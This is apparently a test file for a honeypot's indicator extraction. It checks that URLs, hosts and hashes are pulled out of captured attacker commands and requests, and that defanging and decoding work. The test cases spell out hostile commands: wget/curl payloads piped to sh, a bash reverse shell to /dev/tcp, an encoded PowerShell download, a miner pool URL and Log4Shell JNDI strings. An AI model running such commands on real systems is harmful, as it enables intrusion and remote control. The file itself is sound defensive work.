import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { addressBytes } from '../../../base/ip.ts'
import { LianfangError } from '../../../base/errors.ts'
import type { PayloadKind } from './assessment.ts'
import { decoded } from './decode.ts'
import { isDomain } from './indicators.ts'
import { loadHoneypotKnowledge } from './knowledge.ts'
import { defang, refang } from './refang.ts'

const knowledge = loadHoneypotKnowledge({ own: ['203.0.113.0/28'] })
const of = (kind: PayloadKind, text: string): string[] =>
  knowledge.assess(kind, text).indicators.map((item) => `${item.kind} ${item.value}`)

test('URLs, hosts and hashes of commands', () => {
  const cases: Record<string, readonly string[]> = {
    'cd /tmp; wget http://198.51.100.7/bins/x.mips; chmod 777 x.mips': [
      'url http://198.51.100.7/bins/x.mips',
      'address 198.51.100.7',
    ],
    'wget HTTP://Evil.Example.COM:80/A?b=C#d -O x.sh||curl -O https://evil.example.com:443/A': [
      'url http://evil.example.com/A?b=C',
      'domain evil.example.com',
      'url https://evil.example.com/A',
    ],
    'wget -q 198.51.100.7:8080/a.sh -O- | sh': ['url http://198.51.100.7:8080/a.sh', 'address 198.51.100.7'],
    'curl evil.example/x&&sh x': ['url http://evil.example/x', 'domain evil.example'],
    'tftp -g -r x.mips 198.51.100.9; tftp 198.51.100.10 -c get y.sh': [
      'address 198.51.100.9',
      'address 198.51.100.10',
    ],
    'tftp -l.i -r.i -g 198.51.100.9:64906': ['address 198.51.100.9'],
    'ftpget -v -u anonymous -p anonymous -P 21 files.evil.example ftp1.sh ftp1.sh': [
      'domain files.evil.example',
    ],
    'bash -i >& /dev/tcp/198.51.100.8/4444 0>&1': ['address 198.51.100.8'],
    './x -o stratum+tcp://pool.evil.example:3333 -u w': [
      'url stratum+tcp://pool.evil.example:3333/',
      'domain pool.evil.example',
    ],
    'echo -ne "\\x68\\x74\\x74\\x70://198.51.100.3/\\x61" > u': [
      'url http://198.51.100.3/a',
      'address 198.51.100.3',
    ],
    [`echo ${Buffer.from('curl http://deep.evil.example/s|sh').toString('base64')} | base64 -d | sh`]: [
      'url http://deep.evil.example/s',
      'domain deep.evil.example',
    ],
    [`powershell -enc ${Buffer.from('iwr http://win.evil.example/a.ps1', 'utf16le').toString('base64')}`]: [
      'url http://win.evil.example/a.ps1',
      'domain win.evil.example',
    ],
    'wget${IFS}http://198.51.100.4/z': ['url http://198.51.100.4/z', 'address 198.51.100.4'],
    'hxxp://bad[.]example[.]org/a and 198[.]51[.]100[.]5': [
      'url http://bad.example.org/a',
      'domain bad.example.org',
      'address 198.51.100.5',
    ],
    'wget http://3325256711/a': ['url http://198.51.100.7/a', 'address 198.51.100.7'],
    'wget http://0xc6.0x33.0x64.7/a': ['url http://198.51.100.7/a', 'address 198.51.100.7'],
    'wget http://[2001:db8::0:1]:8080/a': ['url http://[2001:db8::1]:8080/a', 'address 2001:db8::1'],
    'curl http://b\xc3\xbccher.example/': [
      'url http://xn--bcher-kva.example/',
      'domain xn--bcher-kva.example',
    ],
    'ssh root@jump.evil.example -p 22': ['domain jump.evil.example'],
    'sha256sum -c ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa': [
      'sha256 ed01ebfbc9eb5bbea545af4d01bf5f1071661840480439c6e5babe8e080e41aa',
    ],
    // Files, versions, private and own addresses.
    'wget cutie.mips; curl bins.sh; ping -c 1 10.0.0.1; wget http://192.168.1.1/a; curl http://localhost/':
      [],
    'wget http://127.0.0.1/a http://0x7f.1/b http://203.0.113.9/mine': [],
    'uname -a; ls; cat /proc/cpuinfo': [],
    'x-1.2.3.4.5 v1.2.3.4-rc 1.2.3.400': [],
  }
  for (const [text, expected] of Object.entries(cases))
    assert.deepEqual(of('command', text).sort(), expected.toSorted(), text)
})

test('of requests: not the sensor itself, not versions, not namespaces, not who presents himself', () => {
  const head =
    'Host: 198.51.100.250:8080\r\nUser-Agent: Mozilla/5.0 Chrome/4.4.4.4 (compatible; Scan/1; +https://scan.example/about)\r\n'
  assert.deepEqual(
    of(
      'request',
      `POST /a?u=http://198.51.100.250/self HTTP/1.1\r\n${head}\r\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><a>$(wget http://198.51.100.7/m)</a>`,
    ),
    ['url http://198.51.100.7/m', 'address 198.51.100.7'],
  )
  assert.deepEqual(
    of('request', 'GET /shell?cd+/tmp;wget+http%3A%2F%2F198.51.100.7%3A81%2Fj;sh+j HTTP/1.1'),
    ['url http://198.51.100.7:81/j', 'address 198.51.100.7'],
  )
  assert.deepEqual(
    of('request', 'GET /?x=${${::-j}${lower:n}di:${lower:l}dap://evil.example:1389/a} HTTP/1.1'),
    ['url ldap://evil.example:1389/a', 'domain evil.example'],
  )
})

test('of URLs, names and clients', () => {
  assert.deepEqual(of('url', '198.51.100.7/x86'), ['url http://198.51.100.7/x86', 'address 198.51.100.7'])
  assert.deepEqual(of('credential', 'root\0http://evil.example/'), [])
  assert.deepEqual(of('credential', '${jndi:ldap://evil.example/a}\0x'), [
    'url ldap://evil.example/a',
    'domain evil.example',
  ])
  assert.deepEqual(of('client', 'SSH-2.0-Go'), [])
})

test('own prefixes must be prefixes', () => {
  assert.throws(
    () => loadHoneypotKnowledge({ own: ['203.0.113.0/99'] }),
    (error) => error instanceof LianfangError && error.code === 'range-invalid',
  )
})

test('what is a domain', () => {
  for (const name of ['a.bc', 'xn--bcher-kva.example', 'a-b.c1.example', `${'a'.repeat(63)}.example`])
    assert.ok(isDomain(name), name)
  for (const name of [
    'a',
    'a.b',
    '-a.example',
    'a-.example',
    'a..example',
    'a_b.example',
    'a.123',
    `${'a'.repeat(64)}.example`,
    'A.example',
    'a.example.',
    `${'a.'.repeat(130)}example`,
  ])
    assert.ok(!isDomain(name), name)
})

const host = fc.oneof(
  fc.ipV4(),
  fc.domain().map((name) => name.toLowerCase()),
)

test('defanged texts name nothing that can be followed, and refang takes it back', () => {
  fc.assert(
    fc.property(
      host,
      fc.constantFrom('http', 'https', 'ftp', 'ldap', 'stratum+tcp'),
      fc.webPath(),
      (name, scheme, path) => {
        const url = `${scheme}://${name}${path}`
        assert.equal(refang(defang(url)), refang(url))
        assert.equal(refang(defang(name)), name)
        assert.ok(!defang(name).includes('.') || defang(name).includes('[.]'))
        assert.doesNotMatch(defang(url), /^https?:/)
      },
    ),
  )
  assert.equal(defang('http://a.b/c.d?e=f.g'), 'hxxp://a[.]b/c.d?e=f.g')
  assert.equal(defang('2001:db8::1'), '2001[:]db8[:][:]1')
  assert.equal(refang('2001[:]db8[:][:]1'), '2001:db8::1')
  assert.equal(refang('hxxps[://]a(dot)b{.}c [.] d'), 'https://a.b.c.d')
})

test('an indicator is found again in its own value, and no reserved address ever comes out', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(host, fc.webUrl(), fc.ipV6(), fc.string()), { maxLength: 8 }), (words) => {
      const found = knowledge.assess('command', `wget ${words.join(' ; wget ')}`).indicators
      assert.equal(new Set(found.map(({ kind, value }) => `${kind} ${value}`)).size, found.length)
      for (const { kind, value } of found) {
        if (kind === 'address') {
          const bytes = addressBytes(value)
          assert.ok(bytes !== undefined)
          const isMapped = bytes.subarray(0, 12).every((byte, at) => byte === (at < 10 ? 0 : 0xff))
          if (isMapped) {
            const [first, second] = [bytes[12]!, bytes[13]!]
            assert.ok(first !== 10 && first !== 127 && first !== 0 && first < 224, value)
            assert.ok(!(first === 192 && second === 168) && !(first === 172 && second >> 4 === 1), value)
          }
        }
        if (kind === 'url')
          assert.ok(
            knowledge.assess('url', value).indicators.some((again) => again.value === value),
            value,
          )
      }
    }),
    { numRuns: 300 },
  )
})

test('what is wrapped comes out, and no more than there is room for', () => {
  assert.ok(decoded('echo -e "\\147\\141\\171"', false).payloads.includes('echo -e "gay"'))
  assert.ok(decoded('a=%253b', true).texts.includes('a=;'))
  assert.ok(decoded('&lt;x&gt;&#59;', true).texts.includes('<x>;'))
  let nested = 'x'.repeat(400)
  for (let turn = 0; turn < 12; turn++) nested = `echo ${Buffer.from(nested).toString('base64')} | base64 -d`
  const { texts } = decoded(nested, true)
  assert.ok(texts.length <= 8)
  assert.ok(texts.reduce((sum, text) => sum + text.length, 0) <= 4 * 65_536)
  assert.equal(decoded('a'.repeat(1_000_000), false).texts[0]!.length, 65_536)
})
